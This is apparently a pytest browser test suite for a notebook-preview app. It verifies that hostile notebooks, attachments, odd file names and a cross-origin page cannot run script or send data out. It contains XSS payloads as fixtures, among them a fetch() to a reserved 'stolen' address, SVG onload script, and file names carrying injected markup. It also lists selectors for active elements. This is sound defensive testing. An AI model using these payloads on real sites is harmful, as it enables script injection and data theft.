"""A hostile notebook does nothing in a real browser, and neither does a page of another address."""

from __future__ import annotations

import base64
import http.server
import json
import re
import threading
import tomllib
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

import pytest
from support.pages import Screen, screen
from support.places import TESTS
from support.preview import Preview, preview
from support.program import write

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Request, Response

pytestmark = [pytest.mark.slow, pytest.mark.browser]
FIXTURES = TESTS / "support" / "fixtures" / "hostile"
FAR = "http://192.0.2.1"
"""An address that no request may go to; it belongs to nobody (RFC 5737)."""
BAD = f"window.hacked=1;fetch('{FAR}/stolen');alert(1)"


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{BAD}\"><script>{BAD}</script>"
    f"<image href='{FAR}/i'/></svg>"
)
STANDS_FOR = {
    "BAD": BAD,
    "FIRST": BAD.partition(";")[0],
    "FAR": FAR,
    "PAGE": f"data:text/html;base64,{encoded(f'<script>{BAD}</script>')}",
    "SVG": SVG,
    "SVG64": encoded(SVG),
}


def filled(value: Any) -> Any:
    """A value with what its names between ``@`` stand for."""
    if isinstance(value, dict):
        return {key: filled(each) for key, each in value.items()}
    if isinstance(value, list):
        return [filled(each) for each in value]
    return re.sub(r"@([A-Z0-9]+)@", lambda found: STANDS_FOR[found[1]], value)


FOUND = filled(tomllib.loads((FIXTURES / "notebooks.toml").read_text("utf-8")))
MARKDOWN: Mapping[str, str] = FOUND["markdown"]
OUTPUTS: Mapping[str, Mapping[str, Any]] = FOUND["outputs"]
STRANGE_NAMES = ("a<img src=x onerror=alert(1)>.md", "b&quot;'`${alert(1)}.md", "c?token=x#y%2e.md")
ACTING = (
    *("script", "iframe", "object", "embed", "form", "base", "meta", "link", "style", "svg"),
    *("video", "applet", "[onerror]", "[onload]", "[style*=position]", "[srcset]", "a[ping]"),
    *("a[href^='java' i]", "a[href^='data' i]", "img[src^='http']"),
)
"""What could do something by itself or when it is clicked, as CSS selects it."""
STAYS = "This honest sentence stays."


def cells(*found: dict[str, Any]) -> str:
    whole = {"cells": [*found, {"cell_type": "markdown", "metadata": {}, "source": STAYS}]}
    return json.dumps(whole | {"metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def book() -> dict[str, str | bytes]:
    files: dict[str, str | bytes] = {
        "config.ini": "[amts]\nlangs = pt\n",
        "index.md": "# Good\n\nA heron.\n",
    }
    for name, text in MARKDOWN.items():
        attached = {
            "a.svg": {"image/svg+xml": SVG},
            "b.png": {"text/html": f"<script>{BAD}</script>"},
        }
        more = "\n\n![a](attachment:a.svg) ![b](attachment:b.png)"
        files[f"{name}.ipynb"] = cells(
            {
                "cell_type": "markdown",
                "metadata": {},
                "source": text + more,
                "attachments": attached,
            }
        )
    for name, output in OUTPUTS.items():
        made = {"output_type": "display_data", "metadata": {}} | output
        files[f"{name}.ipynb"] = cells(
            {
                "cell_type": "code",
                "metadata": {},
                "execution_count": 1,
                "source": "1",
                "outputs": [made],
            }
        )
    return files | dict.fromkeys(STRANGE_NAMES, f"# Strange\n\n{STAYS}\n")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Preview]:
    with preview(write(tmp_path_factory.mktemp("home") / "book", book())) as running:
        yield running


@pytest.fixture(scope="module")
def page(browser: Browser, server: Preview) -> Iterator[Screen]:
    with screen(browser, server) as made:
        yield made


def harmless(page: Screen, name: str) -> None:
    """Nothing ran, nothing left this machine, and the page is where it was."""
    assert page.run("() => window.hacked === undefined")
    assert page.page.url.startswith(f"http://{page.server.here}/")
    # What the policy of the page blocks is written to the console: the sanitiser let it through.
    acts = [t for t in page.troubles if "Failed to load resource" not in t]
    assert not acts and not page.strangers, name
    assert page.page.frames == [page.page.main_frame]


@pytest.mark.parametrize("name", [*MARKDOWN, *OUTPUTS])
def test_a_hostile_notebook_does_nothing(page: Screen, name: str) -> None:
    page.troubles.clear()
    page.requests.clear()
    page.open(f"{name}.ipynb")
    page.wait("words => document.querySelector('#left').innerText.includes(words)", STAYS)
    page.wait("words => document.querySelector('#right').innerText.includes(words)", STAYS.upper())
    for element in page.page.locator("#left a").all():
        element.click(timeout=3000, no_wait_after=True)
    acting = ", ".join(ACTING)
    assert page.page.locator(f".paper :is({acting})").count() == 0
    assert page.page.locator("#right").count() == 1 and page.page.locator("#live").count() == 1
    if page.page.locator("#right .seg[tabindex]").count():
        page.keys("n", "Enter")
        page.keys("Escape")
    harmless(page, name)


@pytest.mark.parametrize("name", STRANGE_NAMES)
def test_strange_names_of_files(page: Screen, name: str) -> None:
    page.troubles.clear()
    page.requests.clear()
    page.open("index.md")
    page.keys("b")
    page.page.locator("#book a", has_text=name).click()
    page.wait("words => document.querySelector('#left').innerText.includes(words)", STAYS)
    page.page.locator("#book .close").click()
    harmless(page, name)


@contextmanager
def elsewhere(page: str) -> Iterator[str]:
    """A server of another origin, with one page."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://localhost:{server.server_address[1]}/"
        server.shutdown()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_page_of_another_address_gets_and_changes_nothing(
    browser: Browser, server: Preview, host: str
) -> None:
    """It runs beside the preview in a browser that has the cookie."""
    attack = (FIXTURES / "elsewhere.html").read_text("utf-8")
    attack = attack.replace("HERE", f"{host}:{server.port}")
    with screen(browser, server) as page, elsewhere(attack) as url:
        page.open("index.md")
        own = f"http://{host}:{server.port}/"
        asked: list[str] = []
        answers: list[tuple[int, str]] = []

        def is_attack(request: Request) -> bool:
            """The window that the page opens is the preview's own; it asks for itself."""
            if request.is_navigation_request() and request.method == "GET":
                return False
            return f":{server.port}/" in request.url and not request.frame.url.startswith(own)

        def answered(response: Response) -> None:
            if is_attack(response.request):
                answers.append((response.status, response.url))

        page.page.context.on("request", lambda r: asked.append(r.url) if is_attack(r) else None)
        page.page.context.on("response", answered)
        page.page.goto(url)
        page.wait("() => document.title === 'done'")
        told: Sequence[str] = page.run("() => seen")
        assert not [t for t in told if "heron" in t.lower() or 'token"' in t or "loaded" in t], told
        assert len(asked) > 10 and all(400 <= status < 500 for status, _ in answers), answers
        rows = server.get("/api/page", path="index.md", lang="pt")["rows"]
        assert [row["source"] for row in rows] == ["Good", "A heron."]
